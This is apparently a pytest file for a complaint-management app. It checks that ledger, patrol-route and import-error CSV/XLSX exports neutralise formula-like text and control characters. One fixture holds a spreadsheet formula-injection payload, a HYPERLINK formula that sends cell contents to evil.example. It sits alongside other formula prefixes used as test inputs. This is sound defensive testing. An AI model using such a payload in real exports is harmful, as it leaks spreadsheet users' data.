"""Spreadsheet exports: text that looks like a formula stays text, and stored control characters
never break a file (ledger CSV/XLSX, patrol route CSV/XLSX, the CSV import's error report)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from ecogrid.cases import report_views as reports_router
from ecogrid.complaints import bulk_import as complaint_import
from ecogrid.core.errors import RowError
from ecogrid.core.models import AuditEntry, Source
from ecogrid.sources import credit_code
from tests.casefactory import new_case
from tests.security.committed_app import committed_app

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
# Every prefix a spreadsheet reads as the start of a formula.
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
LEDGER_WINDOW = {"opened_from": "2000-01-01"}


def _ledger_cases(db) -> dict[int, str]:
    return {new_case(db, name=name).id: name for name in FORMULAS}


def test_ledger_csv_quotes_every_formula_prefix(db, client, auth):
    cases = _ledger_cases(db)
    response = client.get("/api/v1/reports/ledger.csv", params=LEDGER_WINDOW, headers=auth("clerk"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    name_column = rows[0].index("投诉人")
    names = {int(r[0]): r[name_column] for r in rows[1:]}
    for case_id, name in cases.items():
        assert names[case_id] == "'" + name


def test_ledger_xlsx_holds_formula_text_as_text(db, client, auth):
    cases = _ledger_cases(db)
    response = client.get("/api/v1/reports/ledger.xlsx", params=LEDGER_WINDOW, headers=auth("chief"))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    name_column = [c.value for c in sheet[1]].index("投诉人")
    cells = {r[0].value: r[name_column] for r in sheet.iter_rows(min_row=2)}
    for case_id, name in cases.items():
        assert cells[case_id].data_type == "s"
        # XML reads a carriage return back as a line feed; the quote in front is what matters.
        assert cells[case_id].value == "'" + name.replace("\r", "\n")


@pytest.mark.parametrize("role", ["chief", "clerk", "admin"])
def test_a_stored_control_character_does_not_break_the_xlsx_ledger(db, client, auth, role):
    case = new_case(db, name="张\u0003三", phone="138\x1f")
    response = client.get("/api/v1/reports/ledger.xlsx", params=LEDGER_WINDOW, headers=auth(role))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == case.id)
    assert row[header.index("投诉人")] == "张\ufffd三"
    assert row[header.index("联系电话")] == "138\ufffd"


def _source(db, name: str, n: int) -> Source:
    source = Source(name=name, credit_code=credit_code.make(org8=f"{n:08d}"), industry="chemical",
                    categories=["odour"], key_discharger=False, unit_class="ordinary",
                    geom=f"SRID=4326;POINT({120.39 + n * 0.01} 36.07)", address="-1号")
    db.add(source)
    db.flush()
    return source


def test_route_exports_quote_formula_names(db, client, auth):
    sources = [_source(db, HYPERLINK, 1), _source(db, "@cmd", 2), _source(db, "工\x01厂", 3)]
    planner = auth("planner")
    route = client.post("/api/v1/patrols/routes", json={"date": "2026-03-02", "source_ids": [s.id for s in sources]},
                        headers=planner)
    assert route.status_code == 201
    route_id = route.json()["id"]
    expected = {"'" + HYPERLINK, "'@cmd", "工\ufffd厂"}

    text = client.get(f"/api/v1/patrols/routes/{route_id}.csv", headers=planner).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert {r[1] for r in rows[1:4]} == expected
    assert {r[3] for r in rows[1:4]} == {"'-1号"}
    assert rows[1][4].startswith(("1", "2"))  # coordinates are numbers, left alone

    xlsx = client.get(f"/api/v1/patrols/routes/{route_id}.xlsx", headers=planner)
    assert xlsx.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    stops = list(sheet.iter_rows(min_row=3, max_row=5))
    assert {r[1].value for r in stops} == expected
    assert all(r[1].data_type == "s" for r in stops)


def test_import_error_report_quotes_refused_values(tmp_path: Path):
    report = complaint_import.write_errors(tmp_path / "in.csv",
                                           [RowError(2, "category", "=1+1 is unknown", value="=1+1")])
    with open(report, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["2", "category", "'=1+1", "'=1+1 is unknown"]


def test_a_failed_ledger_export_records_no_audit_entry(cluster, tmp_path, monkeypatch):
    from fastapi.testclient import TestClient

    with committed_app(cluster, tmp_path, "ledger_audit") as committed:
        with committed.database.sessionmaker() as session:
            new_case(session, name="王小明")
            session.commit()
        headers = committed.headers_of("clerk", "clerk-audit")

        def broken(*_args, **_kwargs) -> bytes:
            raise OSError("disk full while building the workbook")

        monkeypatch.setattr(reports_router.reports, "ledger_xlsx", broken)
        with TestClient(committed.app, raise_server_exceptions=False) as client:
            assert client.get("/api/v1/reports/ledger.xlsx", params=LEDGER_WINDOW, headers=headers).status_code == 500
            with committed.database.sessionmaker() as session:
                assert session.scalar(select(func.count()).select_from(AuditEntry)) == 0
            monkeypatch.undo()
            assert client.get("/api/v1/reports/ledger.xlsx", params=LEDGER_WINDOW, headers=headers).status_code == 200
            with committed.database.sessionmaker() as session:
                assert session.scalar(select(func.count()).select_from(AuditEntry)) == 1
